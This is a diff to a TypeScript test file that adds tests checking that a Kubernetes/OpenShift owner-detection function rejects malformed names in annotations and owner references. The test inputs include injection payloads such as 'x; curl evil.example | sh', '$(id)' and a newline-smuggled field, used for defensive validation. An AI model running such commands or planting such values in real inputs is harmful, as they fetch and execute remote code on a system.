@@ -134,6 +134,29 @@ test("whose account OpenShift's Secret is, and which object the owner is", () =>
 	);
 });
 
+for (const text of [
+	"x; curl evil.example | sh",
+	"x\nFix: y",
+	"a b",
+	"$(id)",
+	"-x",
+	"x".repeat(300),
+])
+	test(`what is no name is not taken for one: ${JSON.stringify(text).slice(0, 40)}`, () => {
+		const owner = { apiVersion: "v1", kind: "Foo", name: "foo", uid: "1" };
+		const another = { by: "owner", kind: "another object", name: "" };
+		assert.deepEqual(
+			[
+				managerOf({
+					annotations: { "kubernetes.io/service-account.name": text },
+				}),
+				managerOf({ ownerReferences: [{ ...owner, name: text }] }),
+				managerOf({ ownerReferences: [{ ...owner, kind: text }] }),
+			],
+			[{ by: "openshift", account: "" }, another, another],
+		);
+	});
+
 describe("which field manager keeps an annotation", () => {
 	const entry = (manager: string, annotation = "a/b") => ({
 		manager,
